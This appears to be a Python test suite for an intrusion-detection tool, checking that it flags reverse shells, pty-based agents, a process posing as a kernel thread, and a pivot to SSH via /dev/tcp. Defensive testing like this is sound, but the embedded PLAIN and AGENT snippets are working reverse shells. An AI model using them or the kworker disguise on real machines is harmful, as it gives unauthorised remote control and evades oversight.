"""Shells for somebody who did not come in: agents and reverse shells, and what only looks like one."""
import subprocess
import sys

from cases import case
from harness import brief, check
from test_c_main_job import place
from test_t_tunnels import end, listening

ID = "access.agent_session"

# the far end: takes one client, says each line of its arguments after a pause, prints what came
FAR = """import socket, sys, time
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind((sys.argv[1], int(sys.argv[2]))); l.listen()
c = l.accept()[0]; c.settimeout(0.3); got = b''
for line in sys.argv[3:]:
    time.sleep(0.7); c.sendall(line.encode() + b'\\n')
    try: got += c.recv(65536)
    except OSError: pass
try: c.recv(65536)
except OSError: pass
sys.stdout.buffer.write(got); sys.stdout.flush()
c.close()"""

# what a reverse shell is: out, the connection as 0 to 2, a shell
PLAIN = """import os, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 10)
for i in (0, 1, 2): os.dup2(s.fileno(), i)
os.execv('/bin/bash', ['bash', '-i'])"""

# an agent: out, and a terminal that it keeps for a shell below; the console of a support tool
AGENT = """import os, pty, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 10)
for i in (0, 1, 2): os.dup2(s.fileno(), i)
pty.spawn(['/bin/bash', '-i'])"""

# connected outside all the same, but it has a script run behind pipes (a job runner)
RUNNER = """import socket, subprocess, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 10)
s.sendall(subprocess.run(['/bin/sh', '-c', 'id; date'], stdin=subprocess.DEVNULL,
                         capture_output=True).stdout)
s.recv(10)"""

# a terminal for a shell, and nobody outside
LOCAL = "import pty; pty.spawn(['/bin/bash', '-c', 'id; sleep 0.2; date'])"


def inside(w, program, *argv, name=None, user=None):
    """name: what it calls itself; user: who runs it."""
    python = ["bash", "-c", 'exec -a "$0" "$@"', name or "python3", sys.executable]
    if user:
        python = ["setpriv", "--reuid", user, "--clear-groups"] + python
    return subprocess.Popen(w.net.inside_ns(w.net.srv, python + ["-c", program, *argv]),
                            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, env={"PATH": "/usr/bin:/bin"},
                            start_new_session=True)


def far_end(w, ns, address, port, *lines):
    p = subprocess.Popen(w.net.inside_ns(ns, [sys.executable, "-c", FAR, address, str(port),
                                              *lines]),
                         stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    listening(p, port)
    return p


def told_of(w, outer):
    return [a for a in w.agent.told() if a["detection"] == ID and
            a.get("origin", {}).get("address") == outer]


def played(w, program, port, *lines, name=None, user=None):
    """An agent that goes out to an address of its own; its alert and its session."""
    outer = place(w)
    w.net.address(outer)
    far = far_end(w, w.net.ext, outer, port, *lines)
    agent = inside(w, program, outer, str(port), name=name, user=user)
    out = far.communicate(timeout=30)[0].decode()
    try:
        a = w.agent.alert(detection=ID, origin__address=outer)
        s = w.agent.session(service="agent", origin__address=outer, state="closed")
    finally:
        end(agent)
    return a, s, out


@case("journal")
def reverse_shell_on_its_connection(w):
    a, s, out = played(w, PLAIN, 4431, "/usr/bin/id", "/usr/bin/uname", "exit")
    check("uid=0(root)" in out, "the shell works", out)
    check(a["reason"] == "reverse-shell" and a["severity"] == "high" and a["account"] == "root",
          "how bad", a)
    check("a reverse shell" in a["sentence"] and s["origin"]["port"] == 4431, "in words", a)
    texts = [c["text"] for c in s["commands"]]
    check("/usr/bin/id" in texts and "/usr/bin/uname" in texts, "what it ran", s)
    check(s["origin"]["source"] == "socket" and s["bytes_in"] > 10 and s["bytes_out"] > 10,
          "whose connection, and how much", s)


@case("journal")
def agent_that_keeps_a_terminal(w):
    a, s, out = played(w, AGENT, 4432, "/usr/bin/id", "exit")
    check("uid=0(root)" in out, "the shell works", out)
    check(not a.get("reason") and a["severity"] == "high" and "on a terminal" in a["sentence"],
          "an agent that nobody has seen before", a)
    check("python" in a["sentence"] and "pty.spawn" in a["sentence"], "which program", a)
    check("python" in s["client"] and "/usr/bin/id" in [c["text"] for c in s["commands"]],
          "the session", s)


@case("journal")
def agent_that_calls_itself_a_kernel_thread(w):
    a, _, _ = played(w, AGENT, 4436, "exit", name="[kworker/3:1]")
    check(a["reason"] == "masquerade" and a["severity"] == "critical" and
          "calls itself 'kworker/3:1" in a["sentence"], "what it is not", a)


@case("journal")
def agent_session_that_goes_on_is_a_chain(w):
    """From the agent's shell to ssh on another host: one story."""
    name, _ = w.users.add("agentless")  # of root others know the way
    a, s, _ = played(w, AGENT, 4433, "timeout 2 bash -c 'cat </dev/tcp/10.20.0.2/22'", "exit", user=name)
    check(a["account"] == name, "whose shell", a)
    check(s["destinations_total"] == 1 and
          s["destinations"][0]["address"].startswith("10.20.0.2"), "where it went", s)
    chain = w.agent.alert(detection="chain.t1133", origin__address=s["origin"]["address"])
    check(chain["reason"] == "agent" and "which went out to it" in chain["sentence"], "the story",
          chain)


@case("journal")
def terminals_and_runners_are_no_agents(w):
    outer = place(w)
    w.net.address(outer)
    far = far_end(w, w.net.ext, outer, 4434)
    runner = inside(w, RUNNER, outer, "4434")
    local = inside(w, LOCAL)
    out = far.communicate(timeout=20)[0].decode()
    local.wait(30)
    end(runner)
    # the marker: one that must be told, after both
    played(w, PLAIN, 4435, "exit")
    check(not told_of(w, outer), "a script behind pipes: " + out + brief(told_of(w, outer)))
